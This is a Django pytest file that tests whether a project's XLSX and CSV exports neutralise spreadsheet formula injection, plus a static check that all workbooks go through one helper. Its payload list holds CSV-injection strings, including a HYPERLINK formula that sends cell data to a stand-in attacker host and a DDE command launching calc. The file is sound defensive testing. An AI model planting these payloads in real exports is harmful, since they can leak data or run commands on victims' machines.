"""No spreadsheet the project hands out turns what people typed into a live formula (issue 14, item 3).

The demo world gets hostile text in every user-writable text field of every model – formulas, DDE commands,
tab- and CR-prefixed formulas – and then every URL of the URLconf is asked for, as the systemförvaltare,
and every answer that is a workbook or a CSV file is opened: no XLSX cell is a formula (or an error), and
the hostile text is there as text; no CSV field starts with what Excel would evaluate. URLs are found from
the URLconf and answers are recognised by their content type, so a new export is checked without anyone
adding it here. A static check makes sure every workbook is made by samverkan.spreadsheets and every CSV
writer uses its neutraliser.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.core.management import call_command
from django.db import models, transaction
from django.test import Client, override_settings
from django.urls import resolve, reverse
from openpyxl import load_workbook

from reports.exports import DATASETS
from samverkan.spreadsheets import FORMULA_PREFIXES, XLSX_CONTENT_TYPE
from tests.security import matrix

OUR_APPS = ("samverkan", "applications", "governance", "budget", "followup", "reports")
PAYLOADS = (
    '=HYPERLINK("https://angripare.example/?d="&C2,"Öppna")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=2+2",
)
# Text the program writes itself (hashes, file types, job states, addresses) or that must stay as it is
# for the world to work (log-in e-mail, password hash).
NOT_USER_TEXT = {
    "password",
    "email",
    "content_type",
    "sha256",
    "content_sha256",
    "unsigned_sha256",
    "current_sha256",
    "signed_sha256",
    "event",
    "link",
    "video_link",
    "transition",
    "pdf_status",
    "pdf_error",
    "error",
    "verdict",
    "message",
    "step",
    "field_name",
    "key",
}
NOT_USER_TEXT_IN = {("governance.DecisionDocument", "reference")}  # the document id, made by the program
# Path parameters that choose what an export contains: every value is asked for.
EXPANSIONS = {
    "fmt": lambda: ["csv", "xlsx"],
    "key": lambda: list(DATASETS),
}
# URLs that are spreadsheets by their route; each must answer with one (else the check would skip it).
SPREADSHEET_ROUTE_ENDINGS = (".xlsx", ".csv", ".<str:fmt>")


def user_text_fields():
    for label in OUR_APPS:
        for model in apps.get_app_config(label).get_models():
            for f in model._meta.concrete_fields:
                if not isinstance(f, models.CharField | models.TextField):
                    continue
                if f.choices or type(f).__name__ == "FSMField" or f.name in NOT_USER_TEXT:
                    continue
                if (model._meta.label, f.name) in NOT_USER_TEXT_IN:
                    continue
                yield model, f


def make_hostile() -> list[str]:
    """Every user-writable text field of every row gets a payload, taken in turn by row and field so that
    every export meets each kind. The row's id follows the payload (unique constraints)."""
    changed = []
    for index, (model, f) in enumerate(user_text_fields()):
        manager = model._base_manager
        for pk in manager.values_list("pk", flat=True):
            payload = PAYLOADS[(index + pk) % len(PAYLOADS)]
            suffix = f" {pk}"
            value = payload[: f.max_length - len(suffix)] if f.max_length else payload
            manager.filter(pk=pk).update(**{f.attname: value + suffix})
        changed.append(f"{model._meta.label}.{f.name}")
    return changed


def regenerate_reports() -> None:
    """The stored quarterly report was made before the text turned hostile: make it again."""
    from reports.models import QuarterlyReport
    from reports.services.reports import report_generate

    for pk in QuarterlyReport.objects.filter(status="done").values_list("pk", flat=True):
        QuarterlyReport.objects.filter(pk=pk).update(status="queued")
        report_generate(report_id=pk)


@pytest.fixture(scope="module")
def hostile_world(django_db_setup, django_db_blocker, tmp_path_factory):
    media = tmp_path_factory.mktemp("spreadsheet-media")
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media):
        try:
            world = matrix.load_world()
            world.media_root = media
            world.fields = make_hostile()
            regenerate_reports()
            yield world
        finally:
            call_command("flush", interactive=False, verbosity=0)


def spreadsheet_urls(world) -> list[tuple[str, str]]:
    """(name, url) for every non-admin URL, with the choosing parameters expanded."""
    urls = []
    for endpoint in matrix.endpoints():
        if endpoint.name.startswith("admin:"):
            continue
        try:
            url = matrix.url_for(world, endpoint)
        except matrix.Unfillable:
            continue  # the permission matrix fails for these and says what to add
        kwargs = resolve(url).kwargs
        variants = [kwargs]
        for name, values in EXPANSIONS.items():
            if name in kwargs:
                variants = [{**v, name: value} for v in variants for value in values()]
        urls += [(endpoint.name, reverse(endpoint.name, kwargs=v)) for v in variants]
    return urls


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)  # the test client closes it when it is read
    return response.content


def xlsx_problems(name: str, content: bytes) -> tuple[list[str], set[str]]:
    problems, hostile = [], set()
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{name} {sheet.title}!{cell.coordinate}"
                if cell.data_type in ("f", "e"):
                    problems.append(f"{where} is a {cell.data_type} cell: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    if cell.data_type != "s":
                        problems.append(f"{where} is not text: {cell.value!r}")
                    hostile.update(p for p in PAYLOADS if cell.value.startswith(p[:20]))
    return problems, hostile


def csv_problems(name: str, content: bytes) -> tuple[list[str], set[str]]:
    problems, hostile = [], set()
    text = content.decode("utf-8-sig")
    for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";"), start=1):
        for field in row:
            if field.startswith(FORMULA_PREFIXES):
                problems.append(f"{name} row {number}: {field!r} would be evaluated")
            hostile.update(p for p in PAYLOADS if field.startswith("'" + p[:20]))
    return problems, hostile


@pytest.mark.django_db
def test_every_export_writes_hostile_text_as_text_never_as_a_formula(
    hostile_world, django_db_blocker, settings
):
    settings.MEDIA_ROOT = hostile_world.media_root
    settings.HEALTHZ_REQUIRE_WORKERS = False
    client = Client(raise_request_exception=False)
    client.force_login(hostile_world.users["admin"])
    problems: list[str] = []
    found: dict[str, set[str]] = {}  # url -> the payloads seen in it
    kinds: dict[str, str] = {}
    with django_db_blocker.unblock():
        for name, url in spreadsheet_urls(hostile_world):
            with transaction.atomic():
                response = client.get(url)
                content_type = response.get("Content-Type", "")
                if content_type.startswith(XLSX_CONTENT_TYPE):
                    found_problems, payloads = xlsx_problems(url, body(response))
                    kinds[url] = "xlsx"
                elif content_type.startswith("text/csv"):
                    found_problems, payloads = csv_problems(url, body(response))
                    kinds[url] = "csv"
                else:
                    found_problems, payloads = [], None
                    if route_is_spreadsheet(name):
                        problems.append(f"{url} ({name}) answered {response.status_code} {content_type}")
                transaction.set_rollback(True)
            if payloads is not None:
                found[url] = payloads
                problems += found_problems
                if not payloads:
                    problems.append(f"{url}: none of the hostile text reached the file – is the test blind?")

    assert not problems, "\n" + "\n".join(problems)
    # The ones the issue names, so that the discovery cannot quietly find nothing.
    xlsx = {url for url, kind in kinds.items() if kind == "xlsx"}
    assert any("beslut.xlsx" in u for u in xlsx) and any("pipeline.xlsx" in u for u in xlsx)
    assert any("projektkatalog.xlsx" in u for u in xlsx) and any("ekonomi.xlsx" in u for u in xlsx)
    assert any("budget.xlsx" in u for u in xlsx) and any("rapport.xlsx" in u for u in xlsx)
    assert any(u.endswith(".csv") for u in kinds)
    # Every kind of payload came through somewhere, verbatim, as text.
    assert set().union(*found.values()) == set(PAYLOADS)


def route_is_spreadsheet(name: str) -> bool:
    route = next(e.route for e in matrix.endpoints() if e.name == name)
    return route.endswith(SPREADSHEET_ROUTE_ENDINGS)


# --- Static: one way to write a spreadsheet ---------------------------------------------------------------

WORKBOOK_MAKERS = {"Workbook", "WriteOnlyCell", "Cell", "Worksheet", "WriteOnlyWorksheet"}


def project_modules():
    root = Path(django_settings.BASE_DIR)
    for app in OUR_APPS:
        for path in sorted((root / app).rglob("*.py")):
            if "migrations" not in path.parts:
                yield root, path


def test_only_samverkan_spreadsheets_makes_workbooks_and_csv_writers_neutralise():
    problems = []
    for root, path in project_modules():
        relative = path.relative_to(root).as_posix()
        if relative == "samverkan/spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imports_neutraliser = False
        writes_csv = False
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                made = {a.name for a in node.names} & WORKBOOK_MAKERS
                if made:
                    problems.append(f"{relative}: imports {', '.join(sorted(made))} from {node.module}")
            if isinstance(node, ast.ImportFrom) and node.module == "samverkan.spreadsheets":
                imports_neutraliser |= "csv_cell" in {a.name for a in node.names}
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                writes_csv |= isinstance(node.value, ast.Name) and node.value.id == "csv"
        if writes_csv and not imports_neutraliser:
            problems.append(f"{relative}: writes CSV without samverkan.spreadsheets.csv_cell")
    assert not problems, (
        "Make workbooks with samverkan.spreadsheets.new_workbook() and pass CSV fields through csv_cell():\n"
        + "\n".join(problems)
    )
